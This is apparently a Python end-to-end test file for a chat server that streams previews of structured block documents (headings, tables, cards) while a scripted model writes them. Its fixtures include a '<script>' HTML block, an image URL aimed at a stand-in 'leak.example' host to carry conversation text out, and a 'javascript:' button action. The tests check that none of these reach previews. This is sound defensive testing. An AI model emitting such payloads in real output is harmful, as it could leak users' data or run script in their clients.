"""Documents that are seen while they are written (spec turns 6.5, W6 of 15.11)."""

import asyncio
from collections.abc import AsyncIterator, Sequence
from itertools import pairwise
from pathlib import Path
from typing import Final

from sqlalchemy import text
from sqlalchemy.ext.asyncio import AsyncEngine

from parley.v1 import blocks_pb2, turns_pb2
from parleyd.contract import limits
from parleyd.models.script import Fail, Hold, ScriptedStep, Text
from parleyd.models.scripted import in_turn
from tests.end_to_end.documents import LOANS, document, heading
from tests.end_to_end.person import Person
from tests.server import Server, StartServer
from tests.standard_tools import StandardTools, look_up

DEADLINE: Final = 30
PIECES: Final = (
    """\
v: 1
datasets:
  loans:
    columns: [{name: branch, type: string}, {name: total, type: number}]
    rows: [[Harbour, 41], [Hillside, 17]]
blocks:
  - type: heading
    text: Loans
  - type: html
    html: <p>Hi</p><script>x()</script>
  - type: text
    markdown: Harbour has 41""",
    """ loans.
  - type: card
    title: Preview
    children:
      - {type: html, html: <i>x</i>}
      - {type: divider}""",
    """
      - {type: context, text: Of this week}
  - type: table
    data: loans""",
    "\n    title: By branch\n  - type: divider\n",
)
"""A document as a model streams it. After each piece it is valid, but its last block goes on."""
FINISHED: Final = (
    ["heading"],
    ["heading", "text"],
    ["heading", "text", "card"],
    ["heading", "text", "card", "table"],
)
"""What may be shown after each piece: no HTML, and no block that may go on."""


def held(*pieces: str) -> ScriptedStep:
    """Returns a step that waits after each piece of its text, at a hold of the piece's place."""
    step: list[Text | Hold] = []
    for place, piece in enumerate(pieces):
        step += [Text(piece), Hold(str(place))]
    return step


def kinds(shown: blocks_pb2.BlockDocument) -> list[str]:
    return [block.WhichOneof("block") or "" for block in shown.blocks]


def names(events: Sequence[turns_pb2.TurnEvent]) -> list[str]:
    return [event.WhichOneof("event") or "" for event in events]


def previews(events: Sequence[turns_pb2.TurnEvent]) -> list[turns_pb2.BlocksPreview]:
    found = [event for event in events if event.HasField("blocks_preview")]
    assert not any(event.sequence for event in found)
    return [event.blocks_preview for event in found]


def play(person: Person) -> AsyncIterator[turns_pb2.TurnEvent]:
    prompt = turns_pb2.PromptInput(text="Show my loans")
    return person.stream_all(turns_pb2.StreamTurnRequest(prompt=prompt))


async def followed(
    server: Server, events: AsyncIterator[turns_pb2.TurnEvent]
) -> list[turns_pb2.TurnEvent]:
    """Follows a turn to its end; for each preview the model says one piece more."""
    seen: list[turns_pb2.TurnEvent] = []
    async with asyncio.timeout(DEADLINE):
        async for event in events:
            seen.append(event)
            if event.HasField("blocks_preview"):
                server.model.holds.release(str(len(previews(seen)) - 1))
    return seen


async def test_w6_finished_blocks_are_seen_while_a_document_is_written(
    start_server: StartServer, engine: AsyncEngine
) -> None:
    server = await start_server(in_turn(held(*PIECES)), blocks=True, blocks_html=True)
    noor = await server.person()

    events = await followed(server, play(noor))

    assert names(events) == ["started", *["blocks_preview"] * 4, "text", "blocks", "done"]
    shown = previews(events)
    assert [kinds(each.document) for each in shown] == list(FINISHED)
    final = events[-2].blocks
    assert final.ok
    assert kinds(final.document) == ["heading", "html", "text", "card", "table", "divider"]
    for earlier, later in pairwise(shown):
        assert later.document.blocks[: len(earlier.document.blocks)] == earlier.document.blocks
    for each in shown:
        assert each.pending
        assert each.document.datasets == final.document.datasets
        for block in each.document.blocks:
            if block.HasField("card"):
                [divider, context] = block.card.children
                assert (divider.HasField("divider"), context.HasField("context")) == (True, True)
            else:
                assert block in final.document.blocks
    [_, reply] = await noor.messages(events[0].started.conversation_id)
    assert reply.blocks == final.document
    assert reply.text == events[-3].text.text
    assert "<script>" not in reply.text
    async with engine.connect() as connection:
        stored = await connection.execute(text("SELECT count(*) FROM turn_events"))
        assert stored.scalar_one() == 4


async def test_w6_an_invalid_document_ends_without_one(start_server: StartServer) -> None:
    bad = "v: 1\nblocks:\n  - type: heading\n    text: Loans\n  - type: heading\n"
    server = await start_server(in_turn(held(bad)), blocks=True)
    noor = await server.person()
    events = await followed(server, play(noor))
    assert names(events) == ["started", "blocks_preview", "text", "blocks", "done"]
    assert kinds(events[1].blocks_preview.document) == ["heading"]
    assert not events[3].blocks.ok
    assert not events[3].blocks.HasField("document")


async def test_a_document_in_json_is_seen_once_it_is_whole(start_server: StartServer) -> None:
    said = document(heading("Loans"), {"type": "divider"})
    server = await start_server(in_turn(held(said[:40] + " ", said[40:])), blocks=True)
    server.model.holds.release("0")
    noor = await server.person()
    events: list[turns_pb2.TurnEvent] = []

    async with asyncio.timeout(DEADLINE):
        async for event in play(noor):
            events.append(event)
            if event.HasField("blocks_preview"):
                server.model.holds.release("1")

    assert names(events) == ["started", "blocks_preview", "text", "blocks", "done"]
    assert not events[1].blocks_preview.pending
    assert events[1].blocks_preview.document == events[3].blocks.document


async def test_w6_who_attaches_midway_sees_all_finished_blocks_at_once(
    start_server: StartServer,
) -> None:
    server = await start_server(in_turn(held(*PIECES)), blocks=True, blocks_html=True)
    noor, tablet = await server.person(), await server.person()
    first: list[turns_pb2.TurnEvent] = []
    second: list[turns_pb2.TurnEvent] = []
    watching: asyncio.Task[None] | None = None

    async def watch(started: turns_pb2.TurnEvent) -> None:
        async for event in tablet.watch_all(started.started.conversation_id, started.turn_id):
            second.append(event)
            if event.HasField("blocks_preview"):
                server.model.holds.release(str(len(previews(second))))

    async with asyncio.timeout(DEADLINE):
        async for event in play(noor):
            first.append(event)
            seen = len(previews(first))
            if event.HasField("blocks_preview") and seen == 1:
                server.model.holds.release("0")
            if event.HasField("blocks_preview") and seen == 2:
                watching = asyncio.create_task(watch(first[0]))
        assert watching
        await watching

    assert [kinds(each.document) for each in previews(second)] == list(FINISHED[1:])
    assert names(second) == ["started", *["blocks_preview"] * 3, "text", "blocks", "done"]
    assert [event for event in second if event.sequence] == [
        event for event in first if event.sequence
    ]


async def test_blocks_that_were_seen_are_withdrawn_where_a_call_follows(
    start_server: StartServer, tmp_path: Path
) -> None:
    half = "v: 1\nblocks:\n  - type: heading\n    text: Loans\n  - type: di"
    server = await start_server(
        in_turn(
            [Text("v: 1\nblocks:\n  - type: heading\n    text: Lo"), look_up("unseen")],
            [Text(half), Hold("0"), look_up("seen")],
            [Text(f"{half}vider\n  - type: te"), Hold("1"), Text("xt\n    markdown: Yes.")],
        ),
        tools=StandardTools(tmp_path / "runs").hosted,
        blocks=True,
    )
    noor = await server.person()

    events = await followed(server, play(noor))

    assert names(events) == [
        *("started", "tool_call", "tool_result"),
        *("blocks_preview", "preview_discarded", "tool_call", "tool_result"),
        *("blocks_preview", "text", "blocks", "done"),
    ]
    assert [kinds(each.document) for each in previews(events)] == [
        ["heading"],
        ["heading", "divider"],
    ]


async def test_a_text_that_is_very_long_is_no_longer_seen_while_it_is_written(
    start_server: StartServer,
) -> None:
    long = f"v: 1\nblocks:\n  - type: heading\n    text: Loans\n  - type: divider # {'x' * 80}\n"
    filling = "    # yes\n" * (limits.BLOCKS_PREVIEW_CHARACTERS // 10)
    rest = "  - type: divider\n  - type: text\n    markdown: There are none."
    server = await start_server(in_turn(held(long, filling + rest)), blocks=True)
    server.model.holds.release("1")
    noor = await server.person()

    events = await followed(server, play(noor))

    assert names(events) == ["started", "blocks_preview", "text", "blocks", "done"]
    assert kinds(events[1].blocks_preview.document) == ["heading"]
    assert events[2].text.text == long + filling + rest
    assert kinds(events[3].blocks.document) == ["heading", "divider", "divider", "text"]


async def test_blocks_of_a_turn_that_fails_are_followed_by_its_error(
    start_server: StartServer,
) -> None:
    half = "v: 1\nblocks:\n  - type: heading\n    text: Loans\n  - type: di"
    server = await start_server(
        in_turn([Text(half), Hold("0"), Fail("other")], [Text(LOANS)]), blocks=True
    )
    noor = await server.person()

    events = await followed(server, play(noor))

    assert names(events) == ["started", "blocks_preview", "error", "done"]
    own = events[0].started.conversation_id
    [_, reply] = await noor.messages(own)
    assert (reply.text, reply.HasField("blocks")) == (half, False)
    retried = await noor.retry(own, events[0].turn_id)
    assert retried.names == ["started", "text", "blocks", "done"]
    assert retried.text == LOANS


async def test_bc_133_bc_134_what_breaks_a_rule_is_never_seen_while_it_is_written(
    start_server: StartServer,
) -> None:
    """A client can't tell, and would load the image, or open what somebody presses."""
    said = """\
v: 1
blocks:
  - {type: image, alt: Us, src: "https://leak.example/?said=everything"}
  - {type: columns, children: [{type: divider}, {type: image, alt: Us, src: "https://a.b/"}]}
  - type: actions
    elements: [{type: button, id: a, text: Go, action: "javascript:x()"}]
  - {type: actions, elements: [{type: button, id: b, text: Go, action: {kind: callback, name: x}}]}
  - {type: surprise}
  - {type: html, html: <p>Hi</p>}
  - {type: image, alt: Us, src: "https://cdn.example/us.png"}
  - {type: actions, elements: [{type: button, id: c, text: Go, action: {kind: reply, text: x}}]}
  - type: te"""
    server = await start_server(
        in_turn(held(said, "xt\n    markdown: Yes.")),
        blocks=True,
        blocks_image_hosts=("cdn.example",),
    )
    server.model.holds.release("1")
    noor = await server.person()

    events = await followed(server, play(noor))

    assert names(events) == ["started", "blocks_preview", "text", "blocks", "done"]
    assert kinds(events[1].blocks_preview.document) == ["image", "actions"]
    assert not events[3].blocks.ok
